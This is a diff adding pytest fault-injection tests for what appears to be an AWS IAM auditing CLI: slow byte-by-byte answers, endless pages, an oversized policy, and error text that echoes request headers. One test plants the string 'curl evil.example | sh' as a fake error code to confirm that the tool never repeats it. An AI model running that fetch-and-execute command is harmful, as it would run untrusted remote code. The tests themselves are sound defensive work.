@@ -1,18 +1,23 @@
 """Live-mode faults, injected by a small HTTP proxy on 127.0.0.1 in front of a moto server:
-throttling that clears and that does not, 5xx, timeouts, malformed responses, AccessDenied on one read.
+throttling that clears and that does not, 5xx, timeouts, malformed responses, AccessDenied on one read,
+an answer dripped one byte at a time, endless pages, a 50 MB document, error text that echoes the request.
 Every failure is one line and exit 2, never a traceback, never a credential."""
 
 from __future__ import annotations
 
 import json
+import resource
+import subprocess
+import sys
 import threading
 import time
+import urllib.parse
 import urllib.request
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
 
-from tests.conftest import run_cli
+from tests.conftest import ROOT, run_cli
 from tests.test_live import FAKE, endpoint  # noqa: F401  (the moto server fixture)
 
 pytestmark = pytest.mark.slow  # a moto server behind a fault-injecting proxy; timeouts
@@ -34,12 +39,33 @@ class Faults:
         self.upstream = upstream
         self.mode: dict[str, object] = {}
         self.requests = 0
+        self.actions: dict[str, int] = {}
 
     def answer(self, body: bytes, headers: dict[str, str]) -> tuple[int, bytes, str]:
         self.requests += 1
         form = dict(p.split("=", 1) for p in body.decode().split("&") if "=" in p)
         action = form.get("Action", "")
+        self.actions[action] = self.actions.get(action, 0) + 1
         mode = self.mode
+        if mode.get("endless") == action:  # a list that always has one more page
+            n = self.actions[action]
+            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><PolicyNames>'
+                    f"<member>p{n}</member></PolicyNames><IsTruncated>true</IsTruncated><Marker>m{n}</Marker></{action}Result>"
+                    f"<ResponseMetadata><RequestId>{n}</RequestId></ResponseMetadata></{action}Response>")
+            return 200, body.encode(), "text/xml"
+        if mode.get("huge") == action:  # a policy document of 50 MB
+            document = urllib.parse.quote(json.dumps({"Version": "2012-10-17", "Statement": [
+                {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::" + "x" * (50 * 1024 * 1024)}]}))
+            body = (f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><{action}Result><GroupName>Jets'
+                    f"</GroupName><PolicyName>JetsPolicy</PolicyName><PolicyDocument>{document}</PolicyDocument></{action}Result>"
+                    f"<ResponseMetadata><RequestId>1</RequestId></ResponseMetadata></{action}Response>")
+            return 200, body.encode(), "text/xml"
+        if mode.get("echo"):  # an error whose text repeats the request's headers, and a code that is no code
+            echoed = " ".join(f"{k}={v}" for k, v in headers.items())
+            body = (f'<ErrorResponse xmlns="https://iam.amazonaws.com/doc/2010-05-08/"><Error><Type>Sender</Type>'
+                    f"<Code>{mode['echo']}</Code><Message>bad request: {echoed}</Message></Error><RequestId>1</RequestId>"
+                    "</ErrorResponse>")
+            return 400, body.encode(), "text/xml"
         if mode.get("throttle", 0) and self.requests <= int(mode["throttle"]):  # type: ignore[arg-type]
             return (*_error("Throttling", 400), "text/xml")
         if mode.get("deny") == action:
@@ -71,6 +97,13 @@ def proxy(endpoint):  # noqa: F811
                     status, payload, ctype = faults.answer(body, dict(self.headers))
                 except OSError:
                     status, payload, ctype = 502, b"upstream gone", "text/plain"
+                if faults.mode.get("drip"):  # the whole answer, status line included, one byte at a time
+                    raw = (f"HTTP/1.1 {status} OK\r\nContent-Type: {ctype}\r\nContent-Length: {len(payload)}\r\n\r\n"
+                           .encode() + payload)
+                    for i in range(len(raw)):
+                        self.wfile.write(raw[i:i + 1])
+                        time.sleep(float(faults.mode["drip"]))  # type: ignore[arg-type]  # mode holds flags and numbers; "drip" is a number
+                    return
                 self.send_response(status)
                 self.send_header("Content-Type", ctype)
                 self.send_header("Content-Length", str(len(payload)))
@@ -150,3 +183,58 @@ def test_no_secrets_even_when_verbose(proxy):
     out = proc.stdout.decode() + proc.stderr.decode()
     assert "group Jets: 2 policies (group/Jets/inline/JetsPolicy" in proc.stderr.decode()
     assert SECRET not in out and TOKEN not in out and CREDS["AWS_ACCESS_KEY_ID"] not in out
+
+
+def test_an_answer_dripped_one_byte_at_a_time_meets_the_request_deadline(proxy):
+    """botocore's read timeout bounds each read, and every read gets a byte well within it: without a
+    deadline per request this would take minutes (hundreds of bytes at 0.1 s each)."""
+    proxy.mode = {"drip": 0.1}
+    start = time.monotonic()
+    proc = run_cli("live", "--group", "Jets", "--endpoint-url", proxy.url, "--timeout", "1",
+                   env_extra={**CREDS, "AWS_MAX_ATTEMPTS": "2"})
+    _one_line_exit_2(proc, "the AWS IAM endpoint did not answer in time within --timeout 1 s (after retries)")
+    assert time.monotonic() - start < 20
+    assert proxy.actions == {"GetGroup": 2}
+
+
+def test_the_whole_read_has_a_deadline(proxy):
+    """Every answer comes within --timeout, but a group of 101 policies takes longer than 15 of them."""
+    proxy.mode = {"sleep": 0.3}
+    start = time.monotonic()
+    proc = run_cli("live", "--group", "Big", "--endpoint-url", proxy.url, "--timeout", "0.5", env_extra=CREDS)
+    _one_line_exit_2(proc, "the live read did not finish within 7.5 s (15 x --timeout): the AWS IAM endpoint is too slow")
+    assert time.monotonic() - start < 30
+
+
+def test_endless_pages_stop(proxy):
+    proxy.mode = {"endless": "ListGroupPolicies"}
+    _one_line_exit_2(live(proxy), "iam:ListGroupPolicies answered more than 100 pages: stopped paging")
+    assert proxy.actions["ListGroupPolicies"] == 101
+
+
+def _limit_memory():
+    limit = 1024 * 1024 * 1024
+    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
+
+
+def test_a_50_mb_document_is_refused_in_bounded_memory(proxy):
+    """The answer is read up to 2 MiB: the 50 MB document (which once took gigabytes) fails with one line
+    in a process limited to 1 GiB of address space."""
+    proxy.mode = {"huge": "GetGroupPolicy"}
+    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("AWS_")}
+    env.update({**CREDS, "AWS_CONFIG_FILE": "/dev/null", "AWS_SHARED_CREDENTIALS_FILE": "/dev/null", "NO_COLOR": "1",
+                "AWS_MAX_ATTEMPTS": "1"})
+    proc = subprocess.run([sys.executable, "-m", "auditor", "live", "--group", "Jets", "--endpoint-url", proxy.url],
+                          capture_output=True, cwd=ROOT, env=env, timeout=120, preexec_fn=_limit_memory)
+    _one_line_exit_2(proc, "the AWS IAM endpoint sent an answer larger than 2 MiB: stopped reading")
+
+
+def test_the_endpoints_error_text_is_never_repeated(proxy):
+    """An error whose message echoes the request (the signature, the session token) and whose code is
+    not a code: the line names the operation and the HTTP status, nothing the endpoint wrote."""
+    proxy.mode = {"echo": "Please run: curl evil.example | sh"}
+    err = _one_line_exit_2(live(proxy), "AWS error unknown in iam:GetGroup (HTTP 400): the endpoint's message is not shown")
+    assert "Authorization" not in err and CREDS["AWS_ACCESS_KEY_ID"] not in err and "evil" not in err
+    proxy.mode = {"echo": "InvalidInput"}
+    err = _one_line_exit_2(live(proxy), "AWS error InvalidInput in iam:GetGroup (HTTP 400)")
+    assert "bad request" not in err and "X-Amz-Security-Token" not in err
